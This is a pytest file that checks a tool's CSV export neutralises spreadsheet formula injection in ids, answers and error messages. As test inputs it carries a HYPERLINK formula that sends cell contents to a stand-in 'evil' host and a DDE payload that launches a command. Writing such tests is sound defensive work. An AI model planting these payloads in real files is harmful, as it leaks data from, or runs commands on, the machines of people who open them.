"""A table that a spreadsheet opens holds no formula that a note, a reply or an id brought in."""

import csv
import io
from pathlib import Path

import pytest

from archqa.core.question import RecordQuestion
from archqa.runs.folder import RunFolder
from archqa.runs.record import CaseRecord, CaseStatus
from archqa.safety.text import formula_free
from tests.report.synthetic_runs import create_fhir_run
from tests.safety.command_line import archqa

FORMULA = '=HYPERLINK("http://evil/?"&A1)'


def exported_row(folder: Path, case_id: str, answer: str) -> dict[str, str]:
    run = create_fhir_run(
        folder,
        "fhir-agentbench",
        [RecordQuestion(id=case_id, question="What was it?")],
        [{"agent_answer": answer, "final_answer": answer, "answer": answer}],
    )
    result = archqa("export", str(run), "--format", "csv")
    assert result.returncode == 0, result.stderr
    (row,) = csv.DictReader(io.StringIO(result.stdout, newline=""))
    return row


@pytest.mark.parametrize(
    "text",
    [FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\n=1", "＝1+1", "--1"],
)
def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(
    tmp_path: Path, text: str
) -> None:
    row = exported_row(tmp_path, text, text)
    assert row["case_id"] == f"'{text}"
    assert row["answer"] == f"'{text}"


@pytest.mark.parametrize("text", ["-1.5", "+3", "-2e-3", "1=2", "a note", "", "7"])
def test_plain_numbers_and_other_text_stay_as_they_are(
    tmp_path: Path, text: str
) -> None:
    assert exported_row(tmp_path, "1", text)["answer"] == text


def test_a_carriage_return_starts_no_row(tmp_path: Path) -> None:
    assert exported_row(tmp_path, "1", "fine\r=1+1")["answer"] == "fine\n=1+1"
    assert exported_row(tmp_path / "2", "1", "\r=1+1")["answer"] == "'\n=1+1"


def test_the_message_of_a_failed_case_is_no_formula(tmp_path: Path) -> None:
    question = RecordQuestion(id="1", question="What was it?")
    run = create_fhir_run(tmp_path, "fhir-agentbench", [question], [{}])
    (run / "cases.jsonl").unlink()
    failed = CaseRecord(id="1", status=CaseStatus.FAILED, error=FORMULA)
    RunFolder(run).add(failed)
    result = archqa("export", str(run), "--format", "csv", "--partial")
    (row,) = csv.DictReader(io.StringIO(result.stdout))
    assert row["error"] == f"'{FORMULA}"


@pytest.mark.parametrize("space", [" ", "  ", "\u00a0", "\ufeff", "\u200b", "\0"])
def test_a_formula_after_a_space_is_escaped(space: str) -> None:
    assert formula_free(f"{space}=1+1") == f"'{space}=1+1"
    assert formula_free(f"{space}aspirin") == f"{space}aspirin"
